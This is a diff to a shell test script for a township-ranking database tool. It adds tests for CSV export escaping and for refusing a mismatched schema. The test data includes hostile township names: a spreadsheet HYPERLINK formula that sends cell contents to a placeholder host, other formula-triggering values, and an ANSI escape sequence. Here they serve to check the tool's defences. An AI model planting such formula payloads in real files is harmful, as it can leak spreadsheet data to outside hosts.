@@ -59,5 +59,51 @@ is $? 64 "a missing period exits 64"
 "$BIZENV" --home "$home" rank 2026-10 --db "host=$T/nowhere dbname=$db" >/dev/null 2>&1
 is $? 69 "an unreachable database exits 69"
 
+# Names a spreadsheet would run as formulas get the export CSV's guard; a
+# name with a newline or an escape stays on its row in the table.
+psql -X -q -v ON_ERROR_STOP=1 -d "$db" >"$T/hostile.log" 2>&1 <<'EOF_SQL'
+SELECT test.town('539901105', '=HYPERLINK("http://x.example/?"&A1,"点击")'),
+       test.town('539901106', '@SUM(1+1)'), test.town('539901107', '+1-1'),
+       test.town('539901108', E'换行\n第二行\u001b[2J');
+EOF_SQL
+ok $? "townships with hostile names added"
+out=$(rank 2026-10 --as-of 2026-11-30 --format csv)
+is "$(printf '%s\n' "$out" | grep ',53990110[5-7],')" \
+',539901105,"'"'"'=HYPERLINK(""http://x.example/?""&A1,""点击"")",,,,,,,,未报送,2026-10
+,539901106,'"'"'@SUM(1+1),,,,,,,,未报送,2026-10
+,539901107,'"'"'+1-1,,,,,,,,未报送,2026-10' \
+    "a name starting with =, @ or + is written with a leading ' (quoted when it holds a comma or quote)"
+out=$(rank 2026-10 --as-of 2026-11-30)
+like "$out" '539901108  换行\\n第二行\\x1b\[2J +- ' "the table shows a newline and an escape in a name escaped"
+unlike "$out" '^第二行' "no row is split"
+
+# rank only reads: an analyst's role (a member of bizenv_analyst, nothing
+# else) can use it, and nothing is migrated
+role="analyst_$db"
+psql -X -q -d "$db" -c "CREATE ROLE $role LOGIN; GRANT bizenv_analyst TO $role" >/dev/null 2>&1
+ok $? "a read-only analyst role"
+migs=$(psql -X -At -d "$db" -c "select count(*) || ' ' || max(version) from meta.migration")
+out=$("$BIZENV" --home "$home" --db "dbname=$db user=$role" rank 2026-10 --as-of 2026-11-30 --format csv 2>&1); rc=$?
+is "$rc" 0 "rank --db as the analyst role exits 0"
+like "$out" '^1,539901104,南坪镇,,,100.00,100.00,,,1,已报送,$' "and prints the ranking"
+out=$("$BIZENV" --home "$(new_home)" --db "dbname=$db user=$role" rank 2026-10 --as-of 2026-11-30 2>&1); rc=$?
+is "$rc" 0 "from a home of its own too (an analyst's PC)"
+last=$(psql -X -At -d "$db" -c "select version || ',' || quote_literal(name) || ',' || quote_literal(sha256) from meta.migration order by version desc limit 1")
+psql -X -q -d "$db" -c "DELETE FROM meta.migration WHERE version = ${last%%,*}" >/dev/null
+out=$("$BIZENV" --home "$home" --db "dbname=$db" rank 2026-10 2>&1); rc=$?
+is "$rc" 70 "a database behind the binary: rank refuses (70), even as its owner"
+like "$out" "E_DB_SCHEMA.*早于本程序.*缺少升级 0*${last%%,*}_.*bizenv migrate" "with E_DB_SCHEMA, the missing migration and what to do"
+is "$(psql -X -At -d "$db" -c "select count(*) from meta.migration where version = ${last%%,*}")" 0 "and migrates nothing"
+out=$("$BIZENV" --home "$home" --db "dbname=$db user=$role" runs 2>&1); rc=$?
+is "$rc" 70 "bizenv runs only reads too: it refuses the same way"
+psql -X -q -d "$db" -c "INSERT INTO meta.migration (version, name, sha256) VALUES ($last)" >/dev/null
+is "$(psql -X -At -d "$db" -c "select count(*) || ' ' || max(version) from meta.migration")" "$migs" "(the record put back)"
+psql -X -q -d "$db" -c "INSERT INTO meta.migration (version, name, sha256) VALUES (999, 'future', 'x')" >/dev/null
+out=$("$BIZENV" --home "$home" --db "dbname=$db user=$role" rank 2026-10 2>&1); rc=$?
+is "$rc" 70 "a database ahead of the binary: rank refuses (70)"
+like "$out" "E_DB_SCHEMA.*999.*更新版本" "with E_DB_SCHEMA"
+psql -X -q -d "$db" -c "DELETE FROM meta.migration WHERE version = 999" >/dev/null
+
 dropdb "$db" >/dev/null 2>&1
+psql -X -q -d postgres -c "DROP ROLE IF EXISTS $role" >/dev/null 2>&1
 done_testing
